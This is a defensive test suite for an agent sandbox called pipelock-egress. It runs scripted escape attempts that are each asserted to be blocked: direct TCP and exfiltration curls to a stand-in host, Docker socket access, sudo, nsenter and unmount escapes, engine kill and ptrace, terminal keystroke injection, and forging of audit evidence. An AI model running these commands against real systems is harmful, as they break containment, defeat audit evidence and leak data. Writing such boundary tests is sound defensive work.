// The attack suite: each attack is an agent script run through `pipelock-egress run` (real
// namespaces, users, firewall), aimed only at loopback and local files. A canary on the host's
// loopback counts anything a broken boundary lets through; the script reports each attempt as
// "blocked NAME" or "BREACH NAME: detail". Attacks the engine sees must leave block receipts.
import { after, afterEach, before, beforeEach, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import {
  chmodSync,
  closeSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  rmSync,
  writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { dirname, join } from 'node:path';
import { startOrigin, tempDir, waitFor, type Origin } from '../engine/helpers.js';
import { SYSCALLS } from '../../src/boundary/seccomp.js';
import {
  assertNothingLeft,
  blocked,
  evidenceOf,
  requireBuiltCli,
  runAgent,
  snapshot,
  startCanary,
  type AgentRun,
  type AgentRunOptions,
  type Canary,
  type MachineSnapshot,
} from './harness.js';

let origin: Origin;
let canary: Canary;
let canary6: Server;
let canary6Port = 0;
let canary6Hits = 0;
let machine: MachineSnapshot;

before(async () => {
  requireBuiltCli();
  origin = await startOrigin((_req, res) => res.end('origin-ok'));
  canary = await startCanary();
  canary6 = createServer((socket) => {
    canary6Hits++;
    socket.end();
  });
  await new Promise<void>((done) => canary6.listen(0, '::1', done));
  canary6Port = (canary6.address() as { port: number }).port;
});
after(async () => {
  await origin.close();
  await canary.close();
  canary6.close();
});
beforeEach(() => (machine = snapshot()));
afterEach(() => {
  assert.equal(canary.hits, 0, 'a connection reached the canary on the host loopback');
  assert.equal(canary6Hits, 0, 'a connection reached the IPv6 canary on the host loopback');
  assertNothingLeft(machine);
});

const POLICY = (): string => `version: "1.0"
egress:
  - destination: "127.0.0.1:${origin.port}"
    methods: ["GET"]
default_deny: true
`;

/** Shell helpers every attack script starts with: try CMD, report it. */
const PRELUDE = `set -u
canary=$1 udp=$2 canary6=$3 origin=$4
attempt() { local name=$1; shift; if "$@" >/dev/null 2>&1; then echo "BREACH $name: $*"; else echo "blocked $name"; fi; }
`;

let workdirOfRun = '';
const currentWorkdir = (): string => workdirOfRun;

async function attack(
  script: string,
  extra: Partial<AgentRunOptions> = {},
): Promise<AgentRun & { outcomes: string[] }> {
  const run = await runAgent({
    policy: POLICY(),
    // The attack runs in a subshell: whatever it changes (variables, cwd) stays there.
    script: `${PRELUDE}(\n${script}\n)\necho "proxy-still-works $(curl -sS --noproxy '' --max-time 10 http://127.0.0.1:$origin/)"\n`,
    args: [String(canary.port), String(canary.udpPort), String(canary6Port), String(origin.port)],
    ...extra,
    prepare: (workdir) => {
      workdirOfRun = workdir;
      extra.prepare?.(workdir);
    },
  });
  assert.equal(run.code, 0, `${run.stdout}\n${run.stderr}`);
  const outcomes = run.stdout.split('\n').filter((line) => /^(blocked|BREACH) /.test(line));
  assert.deepEqual(
    outcomes.filter((line) => line.startsWith('BREACH')),
    [],
    run.stdout,
  );
  // The engine outlived the attack and the evidence is whole.
  assert.match(run.stdout, /^proxy-still-works origin-ok$/m);
  evidenceOf(run);
  return { ...run, outcomes };
}

function assertBlocked(outcomes: readonly string[], names: readonly string[]): void {
  assert.deepEqual(
    outcomes
      .filter((line) => line.startsWith('blocked '))
      .map((line) => line.slice(8))
      .sort(),
    [...names].sort(),
  );
}

test("direct TCP to the host loopback, v4 and v6: the agent's loopback is not the host's", async () => {
  const { outcomes } = await attack(`
attempt bash-dev-tcp bash -c "exec 3<>/dev/tcp/127.0.0.1/$canary"
attempt curl-noproxy curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:$canary/
attempt curl-ipv6 curl -sS -g --noproxy '*' --max-time 5 "http://[::1]:$canary6/"
attempt bash-dev-tcp-ipv6 bash -c "exec 3<>/dev/tcp/::1/$canary6"
attempt other-loopback-address curl -sS --noproxy '*' --max-time 5 http://127.0.0.2:$canary/
echo x > /dev/udp/127.0.0.1/$udp 2>/dev/null; echo "sent-udp"
`);
  assertBlocked(outcomes, [
    'bash-dev-tcp',
    'curl-noproxy',
    'curl-ipv6',
    'bash-dev-tcp-ipv6',
    'other-loopback-address',
  ]);
});

test('DNS: resolv.conf points at the namespace, lookups fail, port 53 is nobody', async () => {
  const { stdout, outcomes } = await attack(`
grep -q '^nameserver 127.0.0.1$' /etc/resolv.conf && echo "resolver-is-own-loopback"
attempt getent-hosts getent hosts registry.npmjs.org
attempt getent-ahosts getent ahosts example.com
attempt tcp-53 bash -c "exec 3<>/dev/tcp/127.0.0.1/53"
attempt curl-unproxied-name curl -sS --noproxy '*' --max-time 5 http://example.com/
`);
  assert.match(stdout, /^resolver-is-own-loopback$/m);
  assertBlocked(outcomes, ['getent-hosts', 'getent-ahosts', 'tcp-53', 'curl-unproxied-name']);
});

/** Unix socket servers at the side-channel paths, world-connectable: only the mask stops the agent. */
const SOCKETS = [
  '/run/docker.sock',
  '/run/containerd/containerd.sock',
  '/run/nscd/socket',
  '/run/systemd/resolve/io.systemd.Resolve',
  '/run/dbus/system_bus_socket',
  '/run/user/0/podman/podman.sock',
];

test('side channels: Docker, containerd, podman, nscd, systemd-resolved and D-Bus sockets are masked', async () => {
  const made: string[] = [];
  const servers: Server[] = [];
  const hits = { count: 0 };
  for (const path of SOCKETS) {
    assert.ok(!existsSync(path), `${path} exists on this machine; the test would disturb it`);
    if (!existsSync(dirname(path))) {
      mkdirSync(dirname(path), { recursive: true });
      made.push(dirname(path));
    }
    const server = markedSocketServer(hits);
    await new Promise<void>((done) => server.listen(path, done));
    chmodSync(path, 0o777);
    servers.push(server);
  }
  try {
    // Made from the host first: the servers count a marked connection.
    for (const path of SOCKETS)
      execFileSync('perl', ['-MIO::Socket::UNIX', '-e', PERL_CONNECT_AND_MARK, path]);
    await waitFor(() => hits.count === SOCKETS.length, 5_000, 'the host to reach every socket');
    hits.count = 0;
    const connect = (path: string): string =>
      `attempt ${basenameOf(path)} perl -MIO::Socket::UNIX -e '${PERL_CONNECT_AND_MARK}' "${path}"`;
    const { outcomes } = await attack(`
${SOCKETS.map(connect).join('\n')}
attempt docker-via-var-run curl -sS --max-time 5 --unix-socket /var/run/docker.sock http://localhost/${AGENT_MARK}
attempt unmask-in-user-namespace unshare -rm sh -c 'umount /run/docker.sock && curl -sS --max-time 5 --unix-socket /run/docker.sock http://localhost/${AGENT_MARK}'
`);
    assertBlocked(outcomes, [
      ...SOCKETS.map(basenameOf),
      'docker-via-var-run',
      'unmask-in-user-namespace',
    ]);
    assert.equal(hits.count, 0, 'a side-channel socket was reached by the agent');
  } finally {
    for (const server of servers) server.close();
    for (const path of SOCKETS) rmSync(path, { force: true });
    for (const dir of made.reverse()) rmSync(dir, { recursive: true, force: true });
  }
});

/**
 * What the attacks send once connected. The servers sit at real host paths, where the host's
 * own processes connect too (glibc asks nscd for every user and host lookup), so only a
 * connection that says this counts as the agent's.
 */
const AGENT_MARK = 'pe-agent-reached-this-socket';
/**
 * Connecting is the success: a peer that hangs up before the mark is written must not turn it
 * into a failure (SIGPIPE).
 */
const PERL_MARK_PRELUDE = '$SIG{PIPE} = "IGNORE"; ';
const PERL_CONNECT_AND_MARK = `${PERL_MARK_PRELUDE}my $s = IO::Socket::UNIX->new(Peer => shift) or exit 1; print $s "${AGENT_MARK}\\n"`;

/**
 * A unix socket server that counts the connections sending AGENT_MARK. It answers whatever
 * it hears first (after, not before: the host's checks connect and write before it accepts),
 * so the host's own clients fail fast instead of waiting for an answer.
 */
function markedSocketServer(hits: { count: number }): Server {
  return createServer((socket) => {
    let heard = '';
    socket.once('data', () => socket.end('HTTP/1.1 200 OK\r\n\r\n'));
    socket.on('data', (chunk: Buffer) => {
      const counted = heard.includes(AGENT_MARK);
      heard = (heard + chunk.toString('latin1')).slice(-2 * AGENT_MARK.length);
      if (!counted && heard.includes(AGENT_MARK)) hits.count++;
    });
    socket.on('error', () => undefined);
  });
}

test('a host unix socket the agent could write to is masked wherever it is; an abstract one is out of its namespace', async () => {
  // A stand-in for an unknown daemon with the host's network (snapd, a log forwarder, a
  // proxy): a root-owned socket anyone may connect to, in a directory anyone may enter, under
  // a name with a space. An abstract socket is scoped to the host's network namespace, so the
  // agent cannot name it at all.
  // Not under /tmp or /run, whose agent copies are empty anyway: where a daemon's state is.
  const dir = mkdtempSync('/var/lib/pe-host-sockets-');
  chmodSync(dir, 0o755);
  const open = join(dir, 'relay with space.sock');
  const abstractName = `@pe-attack-${process.pid}`;
  const hits = { count: 0 };
  const servers = [open, abstractName.replace('@', '\0')].map((path) => ({
    path,
    server: markedSocketServer(hits),
  }));
  for (const { path, server } of servers)
    await new Promise<void>((done) => server.listen(path, done));
  chmodSync(open, 0o666);
  // A daemon in a network namespace of its own (a container's, a sandboxed service's): its
  // socket is not in the host's /proc/net/unix, and is as reachable by its path.
  const elsewhere = join(dir, 'other-netns.sock');
  const daemon = spawn(
    'unshare',
    [
      '--net',
      '--',
      'perl',
      '-MIO::Socket::UNIX',
      '-e',
      '$SIG{PIPE} = "IGNORE"; my $s = IO::Socket::UNIX->new(Local => $ARGV[0], Listen => 5) or die; chmod 0666, $ARGV[0]; $| = 1; print "ready\n"; while (my $c = $s->accept) { print $c "reached the host\n"; close $c }',
      elsewhere,
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  );
  await once(daemon.stdout, 'data');
  // The same connect, made from the host first: it works there, so a block inside is the boundary's.
  const perlConnect = (peer: string): string[] => [
    '-MIO::Socket::UNIX',
    '-e',
    // An abstract name: Node 20 binds it padded with NULs to the whole sun_path (108 bytes),
    // Node 24 as given; both are tried.
    `${PERL_MARK_PRELUDE}my $p = shift; my $s = $p !~ s/^@// ? IO::Socket::UNIX->new(Peer => $p) : IO::Socket::UNIX->new(Peer => "\\0$p") || IO::Socket::UNIX->new(Peer => "\\0$p" . "\\0" x (107 - length $p)); $s or exit 1; print $s "${AGENT_MARK}\\n"`,
    peer,
  ];
  try {
    execFileSync('perl', perlConnect(open));
    execFileSync('perl', perlConnect(elsewhere));
    execFileSync('perl', perlConnect(abstractName));
    await waitFor(() => hits.count === 2, 5_000, 'the host to reach the stand-in daemons');
    hits.count = 0;
    const attempt = (name: string, peer: string): string =>
      `attempt ${name} perl ${perlConnect(peer)
        .map((arg) => `'${arg}'`)
        .join(' ')}`;
    const { outcomes, stderr } = await attack(
      `
${attempt('world-writable-socket', open)}
${attempt('socket-of-another-netns', elsewhere)}
${attempt('abstract-socket', abstractName)}
attempt curl-unix-socket curl -sS --max-time 5 --unix-socket ${JSON.stringify(open)} http://localhost/${AGENT_MARK}
`,
    );
    assertBlocked(outcomes, [
      'world-writable-socket',
      'socket-of-another-netns',
      'abstract-socket',
      'curl-unix-socket',
    ]);
    assert.match(
      stderr,
      new RegExp(
        `host unix sockets the agent could connect to \\(outside /dev/shm, /var/tmp, /tmp, /run\\), masked inside the boundary: .*${open}`,
      ),
    );
    assert.equal(hits.count, 0, 'a host socket was reached from inside the boundary');
  } finally {
    daemon.kill();
    for (const { server } of servers) server.close();
    rmSync(dir, { recursive: true, force: true });
  }
});

test('a socket bound under /run or /tmp while the agent runs, or re-created by a daemon restart, is out of its reach', async () => {
  // World-connectable, like a daemon's socket with a permissive mode (journald's, snapd's,
  // PostgreSQL's). The first exists at setup, so the host socket scan finds it; then, once
  // the agent runs (its masks in place), its daemon restarts (removes it and binds again) and
  // another daemon starts.
  const restarted = `/run/pe-restarted-${process.pid}.sock`;
  const late = `/run/pe-late-${process.pid}.sock`;
  const lateInTmp = `/tmp/pe-late-${process.pid}.sock`;
  const hits = { count: 0 };
  const listen = async (path: string): Promise<Server> => {
    const server = markedSocketServer(hits);
    await new Promise<void>((done) => server.listen(path, done));
    chmodSync(path, 0o666);
    return server;
  };
  const servers = [await listen(restarted)];
  let hostSide: Promise<void> = Promise.resolve();
  const changeSockets = async (): Promise<void> => {
    const ready = join(currentWorkdir(), 'flags', 'agent-running');
    await waitFor(() => existsSync(ready), 20_000, 'the agent to start');
    const [old] = servers.splice(0);
    // Closing removes the socket file, as a stopping daemon does.
    await new Promise((done) => old?.close(done));
    servers.push(await listen(restarted), await listen(late), await listen(lateInTmp));
    writeFileSync(join(currentWorkdir(), 'sockets-changed'), '');
  };
  try {
    const { outcomes, stdout } = await attack(
      `
touch flags/agent-running
for i in $(seq 1 200); do [ -e sockets-changed ] && break; sleep 0.1; done
[ -e sockets-changed ] && echo "sockets-changed-seen"
echo "run holds: $(ls -A /run | tr '\\n' ' ')"
attempt restarted-socket perl -MIO::Socket::UNIX -e '${PERL_CONNECT_AND_MARK}' ${restarted}
attempt late-socket perl -MIO::Socket::UNIX -e '${PERL_CONNECT_AND_MARK}' ${late}
attempt late-socket-in-tmp perl -MIO::Socket::UNIX -e '${PERL_CONNECT_AND_MARK}' ${lateInTmp}
`,
      {
        options: ['--writable', 'flags'],
        dirs: ['flags'],
        onStderr: [
          {
            text: 'starting agent.sh',
            action: () => {
              hostSide = changeSockets();
              // Awaited once the run is over; until then a failure must not go unhandled.
              hostSide.catch(() => undefined);
            },
          },
        ],
      },
    );
    await hostSide;
    assert.match(stdout, /^sockets-changed-seen$/m);
    assert.match(stdout, /^run holds: lock pipelock-egress $/m);
    assertBlocked(outcomes, ['restarted-socket', 'late-socket', 'late-socket-in-tmp']);
    assert.equal(hits.count, 0, 'a host socket was reached from inside the boundary');
  } finally {
    for (const server of servers) server.close();
    for (const path of [restarted, late, lateInTmp]) rmSync(path, { force: true });
  }
});

function basenameOf(path: string): string {
  return `socket-${path.split('/').at(-1) ?? path}`;
}

test('raw sockets and ping sockets are refused (no CAP_NET_RAW, no ping group)', async () => {
  const { outcomes } = await attack(`
attempt raw-socket perl -MSocket -e 'socket(my $s, PF_INET, SOCK_RAW, 1) or exit 1'
attempt raw-socket-v6 perl -MSocket -e 'socket(my $s, PF_INET6, SOCK_RAW, 58) or exit 1'
attempt packet-socket perl -e 'socket(my $s, 17, 3, 0) or exit 1'
attempt icmp-ping-socket perl -MSocket -e 'socket(my $s, PF_INET, SOCK_DGRAM, 1) or exit 1'
`);
  assertBlocked(outcomes, ['raw-socket', 'raw-socket-v6', 'packet-socket', 'icmp-ping-socket']);
});

test('privilege: sudo, su, a setuid-root binary, nsenter, unshare -n, mount', async () => {
  const { stdout, outcomes } = await attack(
    `
attempt sudo sudo -n true
attempt su su -c true root
euid=$(./id-setuid -u); [ "$euid" = 0 ] && echo "BREACH setuid: euid $euid" || echo "blocked setuid-root"
attempt nsenter-net nsenter --net=/proc/1/ns/net true
attempt nsenter-target nsenter -t 1 -m -n true
attempt unshare-net unshare -n true
attempt unshare-user-net-escape unshare -rn sh -c "exec 3<>/dev/tcp/127.0.0.1/$canary"
attempt mount-tmpfs mount -t tmpfs none /tmp
attempt umount-resolv umount /etc/resolv.conf
attempt umount-proc umount /proc
grep -E '^(CapEff|CapBnd|NoNewPrivs):' /proc/self/status
`,
    {
      prepare: (workdir) => {
        const binary = join(workdir, 'id-setuid');
        copyFileSync('/usr/bin/id', binary);
        chmodSync(binary, 0o4755);
      },
    },
  );
  assertBlocked(outcomes, [
    'sudo',
    'su',
    'setuid-root',
    'nsenter-net',
    'nsenter-target',
    'unshare-net',
    'unshare-user-net-escape',
    'mount-tmpfs',
    'umount-resolv',
    'umount-proc',
  ]);
  assert.match(stdout, /^CapEff:\s+0000000000000000$/m);
  assert.match(stdout, /^CapBnd:\s+0000000000000000$/m);
  assert.match(stdout, /^NoNewPrivs:\s+1$/m);
});

test('evidence and keys: the signing key is unreadable, evidence cannot be written, deleted or listed', async () => {
  const { stdout, outcomes } = await attack(`
# Its own run directory is its HOME's parent.
run=$(dirname "$HOME")
engine=$run/engine
[ -d "$run/agent" ] && echo "found-run-dir"
echo "engine-entries: $(ls -A $engine 2>/dev/null | wc -l)"
attempt read-signing-key test -n "$(cat $engine/signing-key 2>/dev/null)"
attempt write-evidence sh -c "echo forged >> $engine/evidence/evidence-proxy-0.jsonl"
attempt create-evidence touch $engine/evidence/evidence-proxy-1.jsonl
attempt delete-evidence rm $engine/evidence/evidence-proxy-0.jsonl
# Not in the agent's /run at all (rm -rf of nothing would succeed).
attempt see-engine-dir test -e $engine
attempt write-run-state sh -c "echo {} > $run/state.json"
attempt write-output mkdir out
attempt replace-script sh -c "echo 'echo pwned' > $run/agent/script/agent.sh"
`);
  assert.match(stdout, /^found-run-dir$/m);
  assert.match(stdout, /^engine-entries: 0$/m, "the engine directory is not in the agent's view");
  assertBlocked(outcomes, [
    'read-signing-key',
    'write-evidence',
    'create-evidence',
    'delete-evidence',
    'see-engine-dir',
    'write-run-state',
    'write-output',
    'replace-script',
  ]);
});

test("processes: only the agent's own are visible; the engine cannot be signalled or traced", async () => {
  let enginePid = 0;
  const { stdout, outcomes } = await attack(
    `
own=$(ls /proc | grep -cE '^[0-9]+$')
for pid in $(ls /proc | grep -E '^[0-9]+$'); do
  uid=$(awk '/^Uid:/ {print $2}' /proc/$pid/status 2>/dev/null)
  [ -n "$uid" ] && [ "$uid" != "$(id -u)" ] && echo "BREACH foreign-process: $pid uid $uid"
done
echo "pid1: $(tr '\\0' ' ' < /proc/1/cmdline)"
for i in $(seq 1 100); do [ -s engine.pid ] && break; sleep 0.1; done
engine=$(cat engine.pid)
attempt kill-engine kill -9 "$engine"
attempt ptrace-engine perl -e 'exit(syscall(101, 16, $ARGV[0], 0, 0) == 0 ? 0 : 1)' "$engine"
# Everything visible but the script itself (kill -9 -1 would end it, as outside the boundary).
for pid in $(ls /proc | grep -E '^[0-9]+$'); do
  [ "$pid" = "$$" ] || [ "$pid" = "$BASHPID" ] || kill -9 "$pid" 2>/dev/null
done
echo "killed-everything-visible"
`,
    {
      onStderr: [
        {
          text: 'starting agent.sh',
          action: () => {
            enginePid = Number(
              execFileSync('pgrep', ['-u', 'pipelock-host', '-o'], { encoding: 'utf8' }).trim(),
            );
            writeFileSync(join(currentWorkdir(), 'engine.pid'), `${enginePid}\n`);
          },
        },
      ],
    },
  );
  assert.ok(enginePid > 0);
  assert.match(
    stdout,
    // PID 1 is the agent's init (the shell that starts the script as its child).
    /^pid1: \S*\/bash -c "\$0" "\$@" &/m,
  );
  assert.match(stdout, /^killed-everything-visible$/m);
  assertBlocked(outcomes, ['kill-engine', 'ptrace-engine']);
});

test('socket families outside the network namespace (vsock to the hypervisor, packet), io_uring and kernel keyrings are refused', async () => {
  const addKey = SYSCALLS[process.arch]?.keyrings[0] ?? assert.fail(`no table for ${process.arch}`);
  const run = await attack(
    `attempt keyring perl -e 'syscall(${addKey}, "user", "pipelock-attack", "left", 4, -4) >= 0 or exit 1'
attempt vsock perl -e 'socket(my $s, 40, 1, 0) or exit 1'
attempt af-packet perl -e 'socket(my $s, 17, 3, 0) or exit 1'
attempt io-uring perl -e 'syscall(425, 1, "\\0" x 120) >= 0 or exit 1'
perl -e 'socket(my $s, 2, 1, 0) or exit 1' && echo "allowed inet-socket"
perl -e 'socket(my $s, 1, 1, 0) or exit 1' && echo "allowed unix-socket"`,
  );
  assertBlocked(run.outcomes, ['keyring', 'vsock', 'af-packet', 'io-uring']);
  assert.match(run.stdout, /^allowed inet-socket$/m);
  assert.match(run.stdout, /^allowed unix-socket$/m);
});

test("the caller's terminal: no keystrokes pushed into its shell, no terminal to reset", async () => {
  const run = await attack(
    `for n in 0 1 2; do if [ -t $n ]; then echo "BREACH terminal-fd-$n"; else echo "blocked terminal-fd-$n"; fi; done
attempt controlling-terminal sh -c ': < /dev/tty'
attempt tiocsti-dev-tty perl -e 'open(my $t, "<", "/dev/tty") or exit 1; ioctl($t, 0x5412, "x") or exit 1'
attempt tiocsti-stdout perl -e 'open(my $o, ">&=", 9) or exit 1; ioctl($o, 0x5412, "x") or exit 1' 9>&1`,
    { fromTerminal: true },
  );
  assertBlocked(run.outcomes, [
    'terminal-fd-0',
    'terminal-fd-1',
    'terminal-fd-2',
    'controlling-terminal',
    'tiocsti-dev-tty',
    'tiocsti-stdout',
  ]);
});

test("the caller's open descriptors (a root-only file) are not the agent's", async () => {
  const secret = join(tempDir(), 'root-only.txt');
  writeFileSync(secret, 'ROOT-ONLY-SECRET\n', { mode: 0o600 });
  const fd = openSync(secret, 'r');
  try {
    const run = await attack(
      `attempt inherited-descriptor sh -c '[ -e /proc/$$/fd/30 ]'
attempt inherited-read bash -c 'read -r line <&30 && [ -n "$line" ]'`,
      { inherit: [fd] },
    );
    assertBlocked(run.outcomes, ['inherited-descriptor', 'inherited-read']);
    assert.ok(!run.stdout.includes('ROOT-ONLY-SECRET'));
  } finally {
    closeSync(fd);
  }
});

test("IPC, shared memory and other runs: SysV and POSIX queues, /dev/shm, /tmp and /var/tmp are the run's own, other runs' directories are out of sight", async () => {
  // The directory of another run (one killed outright leaves its own until cleanup).
  const otherRun = '/run/pipelock-egress/pe-00000000aa';
  const hostQueue =
    execFileSync('ipcmk', ['-Q'], { encoding: 'utf8' }).match(/[0-9]+$/m)?.[0] ?? '';
  const queuesBefore = queueIds();
  const marker = `pipelock-attack-${process.pid}`;
  writeFileSync(join('/dev/shm', marker), 'host');
  writeFileSync(join('/tmp', marker), 'host');
  // POSIX queues as systemd mounts them (GitHub's runners have them; this machine may not).
  const mountedQueues = !existsSync('/dev/mqueue');
  if (mountedQueues) {
    mkdirSync('/dev/mqueue');
    execFileSync('mount', ['-t', 'mqueue', 'mqueue', '/dev/mqueue']);
  }
  // A file made on the mqueue file system is a queue.
  writeFileSync(join('/dev/mqueue', marker), '', { mode: 0o666 });
  try {
    mkdirSync(join(otherRun, 'home'), { recursive: true, mode: 0o711 });
    const run = await attack(
      `attempt host-sysv-queue sh -c 'ipcs -q | grep -qw ${hostQueue}'
attempt host-dev-shm test -e /dev/shm/${marker}
attempt host-tmp test -e /tmp/${marker}
attempt list-other-runs sh -c 'ls -A /run/pipelock-egress | grep -q pe-00000000aa'
attempt reach-other-run test -e ${otherRun}/home
attempt leave-dev-shm sh -c 'echo left > /dev/shm/${marker}-agent && test -e /dev/shm/${marker}-agent && false'
attempt host-posix-queue test -e /dev/mqueue/${marker}
touch /dev/mqueue/${marker}-agent
echo left > /var/tmp/${marker}-agent
echo left > /tmp/${marker}-agent
ipcmk -Q >/dev/null`,
    );
    assertBlocked(run.outcomes, [
      'host-sysv-queue',
      'host-dev-shm',
      'host-tmp',
      'list-other-runs',
      'reach-other-run',
      'leave-dev-shm',
      'host-posix-queue',
    ]);
    assert.ok(!existsSync(join('/dev/shm', `${marker}-agent`)));
    assert.ok(!existsSync(join('/dev/mqueue', `${marker}-agent`)));
    assert.ok(!existsSync(join('/var/tmp', `${marker}-agent`)));
    assert.ok(!existsSync(join('/tmp', `${marker}-agent`)));
    // The agent's queue went with its IPC namespace: the host has only what it had.
    assert.deepEqual(queueIds(), queuesBefore);
  } finally {
    rmSync(otherRun, { recursive: true, force: true });
    rmSync(join('/dev/shm', marker), { force: true });
    rmSync(join('/tmp', marker), { force: true });
    rmSync(join('/dev/mqueue', marker), { force: true });
    if (mountedQueues) {
      execFileSync('umount', ['/dev/mqueue']);
      rmSync('/dev/mqueue', { recursive: true });
    }
    execFileSync('ipcrm', ['-q', hostQueue]);
  }
});

/** The message queue ids the host's IPC namespace holds. */
function queueIds(): string[] {
  const listing = execFileSync('ipcs', ['-q'], { encoding: 'utf8' });
  return [...listing.matchAll(/^0x[0-9a-f]+ +([0-9]+) /gm)].map((match) => match[1] ?? '');
}

test('unsetting the proxy variables leaves no way out', async () => {
  const { outcomes } = await attack(`
unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy
attempt direct-http curl -sS --max-time 5 http://127.0.0.1:$canary/
attempt direct-name curl -sS --max-time 5 http://registry.npmjs.org/
attempt direct-https curl -sS --max-time 5 https://registry.npmjs.org/
`);
  assertBlocked(outcomes, ['direct-http', 'direct-name', 'direct-https']);
});

test('CONNECT and absolute-form requests to disallowed destinations: 403 and a block receipt each', async () => {
  const run = await attack(`
attempt absolute-form-canary curl -sS --fail --noproxy '' --max-time 5 http://127.0.0.1:$canary/
attempt absolute-form-name curl -sS --fail --noproxy '' --max-time 5 http://exfil.example/upload?d=1
attempt connect-name curl -sS --fail --noproxy '' --max-time 5 https://exfil.example/
attempt connect-tunnel-canary curl -sS --fail -p --noproxy '' --max-time 5 http://127.0.0.1:$canary/
attempt connect-allowed-host-other-port curl -sS --fail -p --noproxy '' --max-time 5 http://127.0.0.1:1/
`);
  assertBlocked(run.outcomes, [
    'absolute-form-canary',
    'absolute-form-name',
    'connect-name',
    'connect-tunnel-canary',
    'connect-allowed-host-other-port',
  ]);
  const targets = blocked(evidenceOf(run).decisions).map((b) => b.target);
  assert.deepEqual(targets, [
    `http://127.0.0.1:${canary.port}/`,
    'http://exfil.example/upload?d=1',
    'exfil.example:443',
    `127.0.0.1:${canary.port}`,
    '127.0.0.1:1',
  ]);
});
